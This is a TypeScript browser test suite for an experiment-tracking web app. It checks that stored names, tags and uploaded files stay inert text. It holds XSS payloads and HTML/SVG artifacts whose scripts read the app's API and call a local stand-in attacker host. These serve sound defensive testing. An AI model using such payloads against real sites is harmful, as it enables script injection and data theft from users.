// Whatever a client stores, it stays text: names, keys, values and files that try to become script, in every place
// the web app shows them.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { after, before, describe, it } from 'node:test';

import { ownerOf } from '../../sdk/index.ts';
import { browserMissing, startBrowserSession, type BrowserSession, type WatchedPage } from './browser-session.ts';
import { plainMark, recordHostileRuns, type HostileRuns } from './hostile-runs.ts';

/** Each would set `hacked`, open a dialog or ask another host, if it were ever taken for markup, script or a style. */
const payloadsFor = (evil: string): readonly string[] => [
  `<img src=x onerror="alert('hacked');hacked=1">`,
  `"><script>hacked=1;alert(1)</script>`,
  `<svg/onload=hacked=1>`,
  `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  `javascript:hacked=1//`,
  `\${hacked=1}{{hacked=1}}`,
  `</title><script>hacked=1</script>`,
  `<link rel=stylesheet href=${evil}/x.css>`,
  `<img src=${evil}/pixel.png>`,
  `__proto__`,
  `constructor`,
];

const activeFile = (evil: string, kind: string) => `<script>
  document.body ? document.body.append('ran ${kind}') : 0;
  try { parent.hacked = 1; } catch {}
  try { top.location = '${evil}/top'; } catch {}
  try { parent.document.title = 'hacked'; } catch {}
  try { localStorage.setItem('hacked', '1'); } catch {}
  try { fetch('/api/v1/experiments').then((r) => r.text()).then((t) => parent.postMessage('read ' + t.length, '*')); } catch {}
  try { fetch('${evil}/fetch', { mode: 'no-cors' }).catch(() => 0); } catch {}
  try { new Image().src = '${evil}/image'; } catch {}
  try { alert('hacked'); } catch {}
  try { open('${evil}/open'); } catch {}
</script>`;

const filesFor = (evil: string, payloads: readonly string[]): readonly (readonly [path: string, body: string])[] => [
  [
    'page.html',
    `<!doctype html><body><h1>a page</h1><form action="${evil}/form"><input></form><meta http-equiv=refresh content="1;url=${evil}/refresh">${activeFile(evil, 'html')}`,
  ],
  [
    'drawing.svg',
    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="try{parent.hacked=1}catch{}"><script>try{parent.hacked=1}catch{}</script><image href="${evil}/svg.png"/><circle r="5"/></svg>`,
  ],
  ['really-html.png', `<html>${activeFile(evil, 'png')}`],
  ['really-html.txt', `<html>${activeFile(evil, 'txt')}`],
  ['report.json', JSON.stringify({ columns: payloads, data: [payloads] })],
  ['values.json', JSON.stringify(Object.fromEntries(payloads.map((payload) => [payload, payload])))],
  ['table.csv', `${payloads.map((payload) => `"${payload.replaceAll('"', '""')}"`).join(',')}\n`.repeat(3)],
  ['MLmodel', payloads.map((payload) => `${payload}: ${payload}`).join('\n')],
  ['notes.md', payloads.join('\n\n')],
];

const paths = filesFor('', []).map(([path]) => path);

/** The origin of the page inside the page. One that tries to leave while it is asked is asked again. */
async function originInside(page: WatchedPage['page']): Promise<string | undefined> {
  for (let tries = 0; ; tries += 1) {
    try {
      return await page
        .frames()
        .find((one) => one !== page.mainFrame())
        ?.evaluate(() => window.origin);
    } catch (error) {
      if (tries === 20 || !/navigation|destroyed|detached/.test(String(error))) throw error;
      await page.waitForTimeout(100);
    }
  }
}

describe('hostile content', { skip: browserMissing() }, () => {
  let evil: EvilHost;
  let payloads: readonly string[];
  let session: BrowserSession;
  let experimentId: string;
  let runId: string;
  let watched: WatchedPage;
  let recorded: HostileRuns;
  const modelName = `"><img src=x onerror=hacked=1>`;

  before(async () => {
    evil = await startEvilHost();
    payloads = payloadsFor(evil.url);
    session = await startBrowserSession();
    const { client } = session;
    ({ id: experimentId } = await client.createExperiment({ name: payloads[0]!, tags: [{ key: payloads[1]!, value: payloads[2]! }] }));
    const parent = await client.createRun({ experimentId, name: payloads[1]! });
    const tags = payloads.map((payload) => ({ key: payload.slice(0, 200), value: payload }));
    ({ id: runId } = await client.createRun({
      experimentId,
      name: payloads[0]!,
      userId: payloads[3]!,
      parentRunId: parent.id,
      tags: [...tags, { key: 'mlflow.source.name', value: payloads[4]! }, { key: 'mlflow.project.backend', value: payloads[4]! }],
    }));
    await client.createRun({ experimentId, name: payloads[6]!, parentRunId: runId });
    // Keys of metrics and params take letters, digits and a few signs in MLflow's wire; ours takes what core takes.
    for (const payload of payloads) {
      await client.logBatch({ runId, params: [{ key: payload, value: payload }] }).catch(isRefusal);
      for (const step of [0, 1, 2]) await client.logBatch({ runId, metrics: [{ key: payload, value: step, step }] }).catch(isRefusal);
    }
    await client.logBatch({ runId, metrics: [0, 1, 2].map((step) => ({ key: 'train <b>loss</b>', value: step, step })) }).catch(isRefusal);
    await client.updateRun({ runId, notes: payloads.join('\n') });
    for (const [path, body] of filesFor(evil.url, payloads)) await client.putArtifact({ owner: ownerOf.run(runId), path, body });
    await client.createModel({ name: modelName, description: payloads[0]!, tags: [{ key: payloads[1]!, value: payloads[0]! }] });
    await client.createModelVersion({ name: modelName, runId, path: '', description: payloads[2]! }).catch(isRefusal);
    recorded = await recordHostileRuns(client, (await client.createExperiment({ name: 'recordings' })).id, payloads);
    watched = await session.open('/');
    await watched.page.addInitScript(() => window.addEventListener('message', (event) => (window.name = String(event.data))));
  });
  after(async () => {
    await session.end();
    evil.close();
  });

  const inert = async (place: string) => {
    await watched.page.waitForTimeout(700);
    const { hacked, title, stored, message } = await watched.page.evaluate(() => ({
      hacked: 'hacked' in window,
      title: document.title,
      stored: localStorage.getItem('hacked'),
      message: window.name,
    }));
    assert.deepEqual({ place, hacked, stored, message, heard: evil.heard, dialogs: watched.dialogs }, { place, hacked: false, stored: null, message: '', heard: [], dialogs: [] });
    assert.notEqual(title, 'hacked');
  };

  /** Long words are wrapped or cut, or scroll by themselves: the page is never wider than the window. */
  const fits = async (place: string) => {
    const { width, window } = await watched.page.evaluate(() => ({ width: document.documentElement.scrollWidth, window: innerWidth }));
    assert.ok(width <= window, `${place} is ${width} pixels wide in a window of ${window}`);
  };

  it('was stored, so that there is something to show', async () => {
    const { run } = await session.client.getRun({ runId });
    assert.equal(run.name, payloads[0]);
    assert.ok(run.params.length >= 3, `${run.params.length} params`);
    assert.ok(run.metrics.length >= 1, `${run.metrics.length} metrics`);
    assert.ok(run.tags.length >= payloads.length);
  });

  it('stays text in the lists of experiments and models', async () => {
    await watched.page.goto('/');
    await watched.page.getByRole('list', { name: 'Running now' }).getByRole('link', { name: payloads[0]!, exact: true }).first().waitFor();
    await inert('home');
    await watched.page.goto('/experiments');
    await watched.page.getByRole('link', { name: payloads[0]! }).waitFor();
    await inert('experiments');
    await watched.page.goto('/models');
    await watched.page.getByRole('link', { name: modelName }).waitFor();
    await inert('models');
    await watched.page.getByRole('link', { name: modelName }).click();
    await watched.page.getByRole('heading', { level: 1 }).filter({ hasText: 'onerror' }).waitFor();
    await inert('model');
  });

  it('stays text in the runs table, its columns, its charts and their hover', async () => {
    const { page } = watched;
    const cols = [...payloads.flatMap((payload) => [`param:${payload}`, `tag:${payload}`, `metric:best:${payload}`]), 'attribute:user', 'attribute:source'];
    await page.goto(`/experiments/${experimentId}?nest=false&cols=${encodeURIComponent(JSON.stringify(cols))}`);
    await page.getByRole('link', { name: payloads[0]!, exact: true }).waitFor();
    await inert('runs table');
    const chart = page.locator('.u-over').first();
    await chart.waitFor();
    await chart.hover();
    await inert('hover');
    await page.getByRole('button', { name: 'Columns' }).click();
    await page.getByText('About the run').waitFor();
    await inert('column picker');
    await page.goto(`/experiments/${experimentId}?filter=${encodeURIComponent(payloads[0]!)}`);
    await page.getByRole('alert').waitFor();
    await inert('refused filter');
  });

  it('stays text on the page of a run', async () => {
    const { page } = watched;
    await page.goto(`/runs/${runId}`);
    await page.getByRole('heading', { level: 1 }).filter({ hasText: 'onerror' }).waitFor();
    await page.getByRole('button', { name: /written by the client/ }).click();
    await inert('run');
    await page.goto(`/runs/${runId}?tab=charts`);
    await page.locator('.u-over').first().hover();
    await inert('run charts');
  });

  it('stays text in the console, with control characters and turned writing made visible', async () => {
    const { page } = watched;
    await page.goto(`/runs/${recorded.beforeId}?tab=console`);
    const log = page.getByRole('log', { name: 'Console of the run' });
    await log.getByText(plainMark).waitFor();
    await inert('console');
    const text = await log.innerText();
    for (const payload of payloads) assert.ok(text.includes(payload), payload);
    assert.ok(text.includes(`\\u202egnp.exe ${plainMark}`), 'what turns the direction is spelled out');
    assert.ok(text.includes('red  after'), 'what steers a terminal is left out');
    assert.ok(text.includes('nul ␀ bell ␇ delete ␡ back␈ end'), 'what cannot be seen has a picture');
    assert.ok(!text.includes('\u202e') && !text.includes('\u001b'));
    await fits('console');
    await page.goto(`/runs/${recorded.beforeId}?tab=console&find=${encodeURIComponent(payloads[0]!)}`);
    await page
      .getByRole('region', { name: /^Console lines with/ })
      .getByText(payloads[0]!)
      .waitFor();
    await inert('found lines');
  });

  it('stays text as an input, a changed input and a piece of evidence, and fits on the page', async () => {
    const { page } = watched;
    for (const path of [
      `/runs/${recorded.beforeId}?tab=inputs`,
      `/runs/${recorded.beforeId}?tab=verdicts`,
      `/explain?before=${recorded.beforeId}&after=${recorded.afterId}`,
      `/reproductions/${recorded.reproductionId}`,
      `/runs/${recorded.beforeId}`,
    ]) {
      for (const viewport of [
        { width: 1280, height: 800 },
        { width: 390, height: 844 },
      ]) {
        await page.setViewportSize(viewport);
        await page.goto(path);
        await page.getByText('onerror').first().waitFor();
        await inert(path);
        await fits(path);
        const text = await page.locator('main').innerText();
        assert.equal(/.{0,40}\u202e.{0,40}/.exec(text)?.[0], undefined, `${path} turns the direction of writing`);
      }
    }
    await page.setViewportSize({ width: 1280, height: 800 });
    await page.goto(`/explain?before=${recorded.beforeId}&after=${recorded.afterId}`);
    const changes = page.getByRole('button', { expanded: false });
    await page
      .getByRole('button', { name: new RegExp(plainMark) })
      .first()
      .waitFor();
    for (let left = await changes.count(); left > 0; left -= 1) await changes.nth(left - 1).click();
    await inert('unfolded changes');
    await fits('unfolded changes');
  });

  for (const path of paths) {
    it(`does nothing as the file ${path}`, async () => {
      const { page } = watched;
      await page.goto(`/runs/${runId}?tab=artifacts&file=${path}`);
      await page.getByRole('button', { name: path }).waitFor();
      await inert(path);
      const frame = page.locator('iframe');
      if (/\.(html|svg)$/.test(path)) {
        assert.equal(await frame.getAttribute('sandbox'), 'allow-scripts');
        assert.equal(await originInside(page), 'null', 'an origin of its own');
        await page.getByText('Source', { exact: true }).click();
        await inert(`${path} as source`);
      } else {
        assert.equal(await frame.count(), 0);
      }
    });
  }

  it('stays inert when its address is opened directly', async () => {
    for (const inline of ['sandboxed', 'safe', undefined] as const) {
      for (const path of ['page.html', 'drawing.svg', 'really-html.png', 'really-html.txt']) {
        const address = session.client.artifactUrl({ owner: ownerOf.run(runId), path, inline });
        const opened = await session.open('/favicon.svg');
        // A download is no page: the browser says so by an error.
        await opened.page.goto(address).catch(() => undefined);
        await opened.page.waitForTimeout(300);
        // A document may always leave for another place; it takes nothing of ours there.
        const heard = evil.heard.splice(0).filter((line) => !/^GET \/(top|refresh|favicon\.ico)$/.test(line));
        assert.deepEqual({ inline, path, heard, dialogs: opened.dialogs }, { inline, path, heard: [], dialogs: [] });
        const origin = await opened.page.evaluate(() => (document.contentType === 'text/html' ? window.origin : 'no page'));
        assert.notEqual(origin, session.server.url, `${path} has an origin of its own`);
        await opened.close();
      }
    }
  });
});

/** A wire may refuse a key; then there is nothing of it to show. */
function isRefusal(error: unknown): void {
  assert.match(String((error as { code?: string }).code), /invalid_argument|not_found/, String(error));
}

interface EvilHost {
  readonly url: string;
  /** What was asked of it: what left the page. */
  readonly heard: string[];
  close(): void;
}

/** Another host, which takes whatever comes and notes it. */
async function startEvilHost(): Promise<EvilHost> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' }).end('heard');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('listening gave no port');
  return { url: `http://127.0.0.1:${address.port}`, heard, close: () => server.close() };
}
